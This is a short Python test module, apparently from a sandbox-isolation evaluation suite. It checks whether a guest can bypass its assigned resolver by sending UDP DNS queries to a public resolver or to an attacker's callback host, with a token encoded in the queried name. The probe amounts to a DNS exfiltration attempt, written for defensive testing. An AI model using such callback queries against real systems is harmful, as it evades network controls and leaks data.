"""Programs bring resolvers of their own, and do not ask the one that they are given."""

from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, Technique

TECHNIQUE = Technique(
    tries="Ask the machine's own resolver, a public one and the attacker's, by UDP.",
    claim="G3",
    defences=("edge filter and source check",),
    stopped_by=("guest_udp",),
    policies=BOTH,
    variants={one: one for one in ("the machine's", "a public one", "the attacker's")},
    quick=True,
)


def attack(case: Case, what: Any) -> None:
    to = {"the machine's": case.ground.resolver_at, "a public one": "192.0.2.53", "the attacker's": case.ground.callback_at}[what]
    case.send_query(inside.question(f"{case.token}.{case.ground.callback}"), to=to, seconds=1)
